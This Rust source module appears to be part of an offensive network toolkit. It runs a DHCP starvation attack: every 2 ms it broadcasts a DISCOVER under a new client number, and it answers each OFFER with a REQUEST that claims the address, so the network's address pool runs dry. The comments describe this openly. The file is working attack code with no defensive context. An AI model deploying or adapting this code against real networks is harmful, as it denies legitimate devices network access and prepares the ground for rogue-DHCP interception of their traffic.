//! DHCP starvation: as many machines as there are numbers, each of which takes what it is offered.

use std::{net::Ipv4Addr, time::Duration};

use anyhow::Context as _;
use tokio::{net::UdpSocket, time};

use super::packets::{self, SniffedDhcpReply};
use super::{AttackContext, DEVICE, count};

/// Five hundred new machines a second: more than any site switches on.
const EVERY: Duration = Duration::from_millis(2);
const PACKET_BYTES_MAX: usize = 2048;

pub(super) async fn starve(scene: AttackContext) -> anyhow::Result<()> {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 68)).await.context("opening the DHCP client's port")?;
    socket.set_broadcast(true).context("allowing broadcasts")?;
    socket.bind_device(Some(DEVICE.as_bytes())).context("choosing the wire")?;
    let everyone = (Ipv4Addr::BROADCAST, 67);
    let mut tick = time::interval(EVERY);
    tick.set_missed_tick_behavior(time::MissedTickBehavior::Skip);
    let mut buffer = vec![0; PACKET_BYTES_MAX];
    let mut number = 0;
    loop {
        tokio::select! {
            _ = tick.tick() => {
                number += 1;
                if socket.send_to(&packets::discover(number), everyone).await.is_ok() {
                    count(&scene.counters.discovers, 1);
                }
            }
            received = socket.recv(&mut buffer) => {
                let Ok(length) = received else { continue };
                match packets::read(&buffer[..length]) {
                    Some(SniffedDhcpReply::Offer { mac, address, server }) => {
                        let request = packets::request(mac, address, server);
                        socket.send_to(&request, everyone).await.map(drop).unwrap_or_else(super::ignore);
                    }
                    Some(SniffedDhcpReply::Ack) => count(&scene.counters.acks, 1),
                    Some(SniffedDhcpReply::Other) | None => {}
                }
            }
        }
    }
}
